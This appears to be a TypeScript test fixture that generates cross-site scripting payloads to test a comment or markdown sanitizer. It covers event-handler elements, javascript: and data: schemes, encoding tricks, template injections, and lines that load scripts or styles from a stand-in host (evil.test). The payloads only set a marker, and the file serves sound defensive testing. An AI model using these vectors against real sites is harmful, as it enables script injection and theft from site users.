const COMMENT_MAX = 2000;

/** Sets a mark that the specs look for if a script runs. */
const RUN = 'window.__xss=1';
const RUN_ENTITIES = '&#119;indow.__xss&#61;1';
const RUN_BASE64 = 'PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==';

/** Elements that execute by themselves. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=//evil.test/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN_ENTITIES}">`,
  `<img/src=x/onerror=${RUN}//`,
  `<img srcset=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<math><mtext><img src=x onerror=${RUN}></mtext></math>`,
  `<body onload=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<iframe srcdoc="<script>top.__xss=1</script>"></iframe>`,
  `<iframe src="javascript:top.__xss=1"></iframe>`,
  `<object data="data:text/html;base64,${RUN_BASE64}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<base href="//evil.test/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<link rel=stylesheet href="//evil.test/x.css" onload=${RUN}>`,
  `<style>@import "//evil.test/x.css";*{background:url(//evil.test/x)}</style>`,
  `<div style="animation:x 1s" onanimationstart=${RUN}>x</div>`,
  `<a href="javascript:${RUN}" autofocus onfocus=${RUN}>x</a>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

/** Prefixes that close the element around the payload. */
const ESCAPES = ['', '">', `'>`, '</textarea></title></style>', '--></script>'];

/** Addresses that execute when followed. */
const SCHEMES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `%6Aavascript:${RUN}`,
  `javascript://example.org/%0A${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>top.__xss=1</script>`,
  `data:text/html;base64,${RUN_BASE64}`,
  `data:image/svg+xml,<svg onload=top.__xss=1>`,
  `feed:javascript:${RUN}`,
  `view-source:javascript:${RUN}`,
  `blob:javascript:${RUN}`,
];

const LINKS: ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}\n[x]`,
];

/** Markdown that breaks out of its element, templates, and other encodings. */
const TRICKS = [
  `[x](https://example.org/"onmouseover="${RUN})`,
  `[x](https://example.org/'onclick='${RUN})`,
  `[x](https://example.org/?q=<script>${RUN}</script>)`,
  `![x"onerror="${RUN}](https://example.org/x.png)`,
  `![x](x" onerror="${RUN})`,
  `[<img src=x onerror=${RUN}>](https://example.org/)`,
  `[x](https://example.org/ "t\\" onclick=${RUN}")`,
  `https://example.org/"onmouseover="${RUN}`,
  `https://example.org/<img src=x onerror=${RUN}>`,
  `**<svg onload=${RUN}>**`,
  `*<img src=x onerror=${RUN}>*`,
  `# <script>${RUN}</script>`,
  `> <iframe src="javascript:top.__xss=1"></iframe>`,
  `- <img src=x onerror=${RUN}>`,
  `1. <svg/onload=${RUN}>`,
  `\`<img src=x onerror=${RUN}>\``,
  '```\n</code></pre><script>window.__xss=1</script>\n```',
  `| <img src=x onerror=${RUN}> |\n|---|`,
  `<!-- --><img src=x onerror=${RUN}>`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\u202e<img src=x onerror=${RUN}>`,
  `<img\u00a0src=x\u000conerror=${RUN}>`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `"};${RUN};//`,
  `';${RUN};//`,
  `</script><script>${RUN}</script>`,
  `__proto__[innerHTML]=<img src=x onerror=${RUN}>`,
  `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`,
];

export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([
    ...ESCAPES.flatMap((escape) => ELEMENTS.map((element) => escape + element)),
    ...LINKS.flatMap((link) => SCHEMES.map(link)),
    ...TRICKS,
  ]),
];

/** Each payload with its own mark, so that a lost one is noticed. */
export const MARKED: readonly string[] = XSS_PAYLOADS.map(
  (payload, index) => `m${index}m\n\n${payload}`,
);

/** Packs as many payloads into a text as fit. */
export function packTexts(all: readonly string[], max = COMMENT_MAX): string[] {
  const texts: string[] = [];
  for (const text of all) {
    const last = texts.at(-1);
    const joined = `${last ?? ''}\n\n${text}`;
    if (last === undefined || joined.length > max) texts.push(text);
    else texts[texts.length - 1] = joined;
  }
  return texts;
}
